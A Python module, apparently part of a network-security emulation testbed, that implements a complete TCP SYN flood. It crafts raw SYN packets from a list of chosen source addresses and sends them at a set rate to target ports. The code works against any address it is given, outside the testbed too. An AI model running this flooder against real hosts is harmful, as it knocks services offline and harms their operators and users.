"""A real TCP SYN flood from a raw socket, started in an attacker group's namespace.

Every packet is a bare 60-byte SYN (20 bytes of IP header, 40 of TCP with the options a
Linux client sends) from one of the attackers' addresses, a random source port and
sequence number, to one of the service ports, at a bounded total packet rate.

    python -m secmas.network.emulation.synflood DST PPS PORT[,PORT…] SRC[,SRC…]
"""

from __future__ import annotations

import contextlib
import itertools
import random
import socket
import struct
import sys
import time

TICK = 0.01
TCP_OPTIONS = (
    struct.pack("!BBH", 2, 4, 1460)  # MSS
    + struct.pack("!BB", 4, 2)  # SACK permitted
    + struct.pack("!BBII", 8, 10, 0, 0)  # timestamps
    + struct.pack("!B", 1)  # NOP
    + struct.pack("!BBB", 3, 3, 7)  # window scale
)
PACKET_BYTES = 20 + 20 + len(TCP_OPTIONS)


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn_packet(src: str, dst: str, sport: int, dport: int, seq: int, ident: int) -> bytes:
    """A complete IPv4 + TCP SYN segment, checksums filled in."""
    source, target = socket.inet_aton(src), socket.inet_aton(dst)
    offset = ((20 + len(TCP_OPTIONS)) // 4) << 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset, 0x02, 64240, 0, 0)
    segment = tcp + TCP_OPTIONS
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, PACKET_BYTES, ident, 0, 64, socket.IPPROTO_TCP, 0, source, target
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + segment


def flood(dst: str, pps: float, ports: list[int], sources: list[str]) -> None:
    """Send SYNs at `pps` packets a second until killed."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random()
    targets = itertools.cycle([(s, p) for s in sources for p in ports])
    sent, started = 0, time.monotonic()
    while True:
        due = int((time.monotonic() - started) * pps)
        for _ in range(due - sent):
            src, port = next(targets)
            packet = syn_packet(
                src,
                dst,
                rng.randint(1024, 65535),
                port,
                rng.getrandbits(32),
                rng.getrandbits(16),
            )
            with contextlib.suppress(OSError):  # a full queue drops it, as a real one would
                raw.sendto(packet, (dst, 0))
        sent = max(sent, due)
        time.sleep(TICK)


def main(argv: list[str]) -> int:
    if len(argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    dst, pps = argv[0], float(argv[1])
    ports = [int(p) for p in argv[2].split(",")]
    with contextlib.suppress(KeyboardInterrupt):
        flood(dst, pps, ports, argv[3].split(","))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
